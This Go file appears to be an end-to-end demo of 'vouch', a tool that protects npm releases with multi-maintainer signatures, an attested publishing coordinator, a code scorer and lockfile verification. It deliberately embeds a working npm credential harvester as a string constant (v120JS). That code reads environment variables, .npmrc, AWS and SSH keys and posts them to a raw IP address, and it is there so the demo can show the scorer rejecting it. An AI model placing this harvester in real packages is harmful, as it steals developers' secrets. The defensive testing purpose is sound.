package demo

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"time"
)

const (
	v110JS = goodJS + "module.exports.subtract = function subtract(a, b) { return a - b; };\n"

	// A release that reads credentials and posts them out, the pattern of
	// real npm credential harvesters.
	v120JS = "'use strict';\n" +
		"const fs = require('fs');\n" +
		"const os = require('os');\n" +
		"const https = require('https');\n" +
		"function collect() {\n" +
		"  const home = os.homedir();\n" +
		"  const out = { env: process.env };\n" +
		"  for (const f of ['.npmrc', '.aws/credentials', '.ssh/id_rsa']) {\n" +
		"    try { out[f] = fs.readFileSync(home + '/' + f, 'utf8'); } catch (e) {}\n" +
		"  }\n" +
		"  return Buffer.from(JSON.stringify(out)).toString('base64');\n" +
		"}\n" +
		"const req = https.request({ hostname: '45.61.136.12', port: 443, path: '/telemetry', method: 'POST' });\n" +
		"req.on('error', () => {});\n" +
		"req.end(collect());\n" +
		"module.exports = function add(a, b) { return a + b; };\n" +
		"module.exports.subtract = function subtract(a, b) { return a - b; };\n"
)

// actProtectedPublish: enroll 2-of-3, hand the token to the attested
// coordinator, propose, approve, score, veto window, chain, npm.
func (r *run) actProtectedPublish(a *Act) error {
	st, err := r.startHost()
	if err != nil {
		return errStep("vouch-host --dev", err)
	}
	r.stack = st
	r.say("   vouch-host --dev: API %s, dev chain %s, registry contract %s, simulated-platform coordinator and scorer", st.hostURL, st.rpc, st.registry)

	r.people = map[string]*maintainer{}
	for _, name := range []string{"alice", "bob", "carol"} {
		m, err := r.newMaintainer(name)
		if err != nil {
			return errStep("vouch key new for "+name, err)
		}
		r.people[name] = m
	}
	alice, bob, carol := r.people["alice"], r.people["bob"], r.people["carol"]
	r.say("   keys: alice %s, bob %s, carol %s", alice.address, bob.address, carol.address)

	tokenFile := filepath.Join(r.work, "alice.npm-token")
	if err := os.WriteFile(tokenFile, []byte(r.npm.token), 0o600); err != nil {
		return err
	}
	trust := []string{"--allow-simulated", "--roots", r.stack.simAK("coordinator")}
	enrollFile := filepath.Join(r.work, "enroll.vouch.json")
	if _, err := r.vouch(alice, r.work, "enroll", pkgName, "--maintainer", alice.address, "--maintainer", bob.address,
		"--maintainer", carol.address, "--threshold", "2", "--veto-window", "5s", "--min-score", "60", "--out", enrollFile); err != nil {
		return errStep("alice: vouch enroll", err)
	}
	if _, err := r.vouch(bob, r.work, "enroll", "--sign", enrollFile, "--yes"); err != nil {
		return errStep("bob signs the enrollment", err)
	}
	// demo-widget is on npm already (act 1): the coordinator countersigns the
	// enrollment only for a token that can publish it.
	if _, err := r.vouch(alice, r.work, append([]string{"submit", enrollFile, "--token-file", tokenFile}, trust...)...); err != nil {
		return errStep("vouch submit enroll", err)
	}
	r.say("   %s enrolled on chain: 2 of {alice, bob, carol}, veto window 5s (shortened for the demo), minimum score 60;", pkgName)
	r.say("     the coordinator countersigned it after checking on npm that alice's token can publish %s", pkgName)

	grantFile := filepath.Join(r.work, "token-grant.vouch.json")
	out, err := r.vouch(alice, r.work, append([]string{"token", "add", pkgName, "--token-file", tokenFile, "--out", grantFile}, trust...)...)
	if err != nil {
		return errStep("alice: vouch token add", err)
	}
	a.Facts["tokenAdd"] = strings.TrimSpace(out)
	if !strings.Contains(out, "SIMULATED") {
		return storyf("vouch token add did not show the coordinator's evidence as SIMULATED:\n%s", out)
	}
	if _, err := r.vouch(bob, r.work, "token", "add", "--sign", grantFile, "--yes"); err != nil {
		return errStep("bob signs the token grant", err)
	}
	out, err = r.vouch(alice, r.work, "submit", grantFile)
	if err != nil {
		return errStep("vouch submit token grant", err)
	}
	a.Facts["tokenGrant"] = strings.TrimSpace(out)
	if !strings.Contains(out, "signed by 2 maintainer(s)") {
		return storyf("the token grant was not sealed with 2 of 3 signatures:\n%s", out)
	}
	r.say("   alice hands her npm token to the coordinator: its evidence is verified first (SIMULATED platform; the simulated AK is trusted explicitly), then the token is ECIES-encrypted to the attested key")
	r.say("     the TokenGrant {package, hash of the ciphertext, nonce} is signed by 2 of 3 (alice, bob) and recorded on chain; the enclave seals no token without it")

	dir := filepath.Join(r.work, "widget-1.1.0")
	if err := writePackage(dir, pkgName, "1.1.0", v110JS, nil); err != nil {
		return err
	}
	out, err = r.vouch(alice, dir, "propose", ".", "--json")
	if err != nil {
		return errStep("alice: vouch propose", err)
	}
	id, err := proposedID(out)
	if err != nil {
		return err
	}
	a.Facts["releaseID"] = id
	r.say("   alice proposes %s@1.1.0 and signs as #1: release %s", pkgName, id)
	if _, err := r.vouch(bob, r.work, "approve", id, "--yes"); err != nil {
		return errStep("bob: vouch approve", err)
	}
	r.say("   bob reviews the diff and the score, and approves (#2 of 2)")

	// "verified": published by the enclave and anchored on chain.
	final, err := r.waitState(id, 3*time.Minute, "verified", "rejected", "vetoed", "revoked")
	if err != nil {
		return err
	}
	a.Facts["state"] = final.State
	if final.Score != nil {
		a.Facts["score"] = fmt.Sprint(final.Score.Score)
	}
	a.Facts["signers"] = strings.Join(final.Signers, ",")
	if final.State != "verified" {
		return storyf("release %s ended %q, not published and anchored (%s)", id, final.State, final.Reason)
	}
	served, err := r.npm.npm(r.work, "", "view", pkgName+"@1.1.0", "dist.integrity")
	if err != nil {
		return err
	}
	a.Facts["servedIntegrity"] = trimOut(served)
	a.Facts["signedIntegrity"] = final.Integrity
	if a.Facts["servedIntegrity"] != final.Integrity {
		return storyf("npm serves %s for 1.1.0, the maintainers signed %s", a.Facts["servedIntegrity"], final.Integrity)
	}
	r.say("   scored %s, veto window passed, record on chain, and the enclave published: npm now serves %s@1.1.0 (%s)",
		a.Facts["score"], pkgName, a.Facts["servedIntegrity"])
	return nil
}

// verifyResult is one row of `vouch verify --json`.
type verifyResult struct {
	Name, Version, Status, Reason string
	ExpectedIntegrity             string `json:"expectedIntegrityKeccak"`
	ActualIntegrity               string `json:"actualIntegrity"`
	Error                         bool
}

func (r *run) verifyLockfile(path string) ([]verifyResult, string, error) {
	out, err := r.vouch(nil, filepath.Dir(path), "verify", "--lockfile", path, "--json")
	i := strings.Index(out, "{")
	if i < 0 {
		return nil, out, fmt.Errorf("vouch verify printed no JSON: %v", err)
	}
	var rep struct{ Results []verifyResult }
	if jerr := json.NewDecoder(strings.NewReader(out[i:])).Decode(&rep); jerr != nil {
		return nil, out, jerr
	}
	return rep.Results, out, err
}

func findResult(rs []verifyResult, name, version string) *verifyResult {
	for i := range rs {
		if rs[i].Name == name && rs[i].Version == version {
			return &rs[i]
		}
	}
	return nil
}

// actAttackFails: the attacker uses the stolen token again; vouch refuses.
func (r *run) actAttackFails(a *Act) error {
	evil := filepath.Join(r.work, "widget-1.1.1-evil")
	if err := writePackage(evil, pkgName, "1.1.1", evilJS, nil); err != nil {
		return err
	}
	if _, err := r.npm.npm(evil, r.npm.token, "publish"); err != nil {
		return errStep("attacker publishes 1.1.1", err)
	}
	r.say("   the attacker publishes %s@1.1.1 straight to npm with the token kept from before: npm accepts it", pkgName)

	app := filepath.Join(r.work, "app2")
	if err := writePackage(app, "demo-app", "1.0.0", "require('demo-widget');\n", map[string]any{
		"private": true, "dependencies": map[string]string{pkgName: "^1.1.0"},
	}); err != nil {
		return err
	}
	if _, err := r.npm.npm(app, "", "install", "--package-lock-only", "--ignore-scripts", "--no-audit"); err != nil {
		return errStep("npm resolves the app", err)
	}
	lock := filepath.Join(app, "package-lock.json")
	results, out, err := r.verifyLockfile(lock)
	if err == nil {
		return storyf("vouch verify accepted a lockfile with the attacker's version:\n%s", out)
	}
	res := findResult(results, pkgName, "1.1.1")
	if res == nil || res.Status != "unsigned" || !res.Error {
		return storyf("vouch verify did not refuse %s@1.1.1 as unsigned:\n%s", pkgName, out)
	}
	a.Facts["verify1.1.1"] = res.Status + ": " + res.Reason
	r.say("   vouch verify --lockfile: %s@1.1.1 %s — %s", pkgName, res.Status, res.Reason)

	out, err = r.vouch(nil, app, "install", "--dir", app)
	if err == nil {
		return storyf("vouch install installed the attacker's version:\n%s", out)
	}
	if _, statErr := os.Stat(filepath.Join(app, "node_modules", pkgName)); statErr == nil {
		return storyf("vouch install refused but %s landed in node_modules", pkgName)
	}
	a.Facts["install"] = lastLine(out)
	r.say("   vouch install refuses: %s", lastLine(out))

	// A mirror that serves other bytes under the signed version: MISMATCH.
	data, err := os.ReadFile(lock)
	if err != nil {
		return err
	}
	evilSRI, err := r.npm.npm(r.work, "", "view", pkgName+"@1.1.1", "dist.integrity")
	if err != nil {
		return err
	}
	goodSRI, err := r.npm.npm(r.work, "", "view", pkgName+"@1.1.0", "dist.integrity")
	if err != nil {
		return err
	}
	swapped := strings.ReplaceAll(string(data), `"version": "1.1.1"`, `"version": "1.1.0"`)
	swapped = strings.ReplaceAll(swapped, pkgName+"-1.1.1.tgz", pkgName+"-1.1.0.tgz")
	if !strings.Contains(swapped, trimOut(evilSRI)) {
		return storyf("the app's lockfile does not carry 1.1.1's integrity")
	}
	mirrorLock := filepath.Join(r.work, "mirror", "package-lock.json")
	if err := os.MkdirAll(filepath.Dir(mirrorLock), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(mirrorLock, []byte(swapped), 0o644); err != nil {
		return err
	}
	results, out, _ = r.verifyLockfile(mirrorLock)
	res = findResult(results, pkgName, "1.1.0")
	if res == nil || res.Status != "mismatch" {
		return storyf("a swapped tarball under the signed version was not a MISMATCH:\n%s", out)
	}
	a.Facts["mismatchExpected"] = res.ExpectedIntegrity
	a.Facts["mismatchActual"] = res.ActualIntegrity
	r.say("   a mirror serving other bytes as %s@1.1.0: MISMATCH, signed %s (keccak of %s), got %s",
		pkgName, res.ExpectedIntegrity, trimOut(goodSRI), res.ActualIntegrity)
	return nil
}

// actModelsEye: a credential harvester proposed through vouch scores low and
// does not publish with the ordinary threshold.
func (r *run) actModelsEye(a *Act) error {
	alice, bob := r.people["alice"], r.people["bob"]
	dir := filepath.Join(r.work, "widget-1.2.0")
	if err := writePackage(dir, pkgName, "1.2.0", v120JS, nil); err != nil {
		return err
	}
	out, err := r.vouch(alice, dir, "propose", ".", "--json")
	if err != nil {
		return errStep("vouch propose 1.2.0", err)
	}
	id, err := proposedID(out)
	if err != nil {
		return err
	}
	out, err = r.vouch(bob, r.work, "approve", id, "--yes")
	if err != nil {
		return errStep("bob: vouch approve 1.2.0", err)
	}
	r.say("   a compromised alice proposes %s@1.2.0 (reads ~/.npmrc, AWS and SSH keys, posts them to a raw IP); bob approves", pkgName)
	base := regexp.MustCompile(`(?m)^\s*base\s+(\S+)`).FindStringSubmatch(out)
	if base == nil {
		return storyf("vouch approve did not show the diff base:\n%s", out)
	}
	a.Facts["base"] = base[1]
	if base[1] != "1.1.0" {
		return storyf("the diff base of 1.2.0 is %s, want 1.1.0 (the newest release on chain)", base[1])
	}
	r.say("   the diff base is %s@%s, the newest release on chain (never what npm lists: an unsigned 1.2.0-0 pushed to npm cannot launder the diff)", pkgName, base[1])
	deadline := time.Now().Add(2 * time.Minute)
	var st *releaseState
	for time.Now().Before(deadline) && r.ctx.Err() == nil {
		if st, err = r.status(id); err == nil && st.Score != nil {
			break
		}
		time.Sleep(time.Second)
	}
	if st == nil || st.Score == nil {
		return storyf("release %s was never scored", id)
	}
	a.Facts["score"] = fmt.Sprint(st.Score.Score)
	a.Facts["findings"] = string(st.Score.Report)
	// Give the coordinator time it would need to publish, then check it did not.
	time.Sleep(8 * time.Second)
	if st, err = r.status(id); err != nil {
		return err
	}
	a.Facts["state"] = st.State
	if st.Score.Score >= 60 {
		return storyf("the harvester scored %d, not below the minimum 60", st.Score.Score)
	}
	if st.State == "published" || st.State == "verified" {
		return storyf("the coordinator published a release scored %d with only the ordinary threshold", st.Score.Score)
	}
	if _, err := r.npm.npm(r.work, "", "view", pkgName+"@1.2.0", "version"); err == nil {
		if v, _ := r.npm.npm(r.work, "", "view", pkgName+"@1.2.0", "version"); strings.TrimSpace(string(v)) == "1.2.0" {
			return storyf("npm serves %s@1.2.0", pkgName)
		}
	}
	rules := regexp.MustCompile(`"rule":\s*"([^"]+)"`).FindAllStringSubmatch(a.Facts["findings"], -1)
	var names []string
	for _, m := range rules {
		if !slices.Contains(names, m[1]) {
			names = append(names, m[1])
		}
	}
	if len(names) > 5 {
		names = append(names[:5], "…")
	}
	r.say("   the scorer scores it %d (below 60); findings: %s", st.Score.Score, strings.Join(names, ", "))
	r.say("   the coordinator holds it (state %q): below the minimum score it needs a third approval", st.State)
	return nil
}

// actAuditor: check the coordinator's evidence and the good release's score.
func (r *run) actAuditor(a *Act) error {
	out, err := r.vouch(nil, r.work, "audit", "enclave", "--role", "coordinator", "--allow-simulated", "--roots", r.stack.simAK("coordinator"))
	if err != nil {
		return errStep("vouch audit enclave --role coordinator", err)
	}
	if !strings.Contains(out, "SIMULATED") {
		return storyf("the coordinator's evidence was not shown as SIMULATED:\n%s", out)
	}
	a.Facts["auditEnclave"] = strings.TrimSpace(out)
	r.say("   vouch audit enclave --role coordinator: evidence from the chain verified (SIMULATED platform)")
	out, err = r.vouch(nil, r.work, "audit", "score", pkgName+"@1.1.0", "--allow-simulated", "--roots", r.stack.simAK("scorer"))
	if err != nil {
		return errStep("vouch audit score", err)
	}
	a.Facts["auditScore"] = strings.TrimSpace(out)
	r.say("   vouch audit score %s@1.1.0: signature, scorer evidence, per-score quote and inputHash all check out", pkgName)
	return nil
}
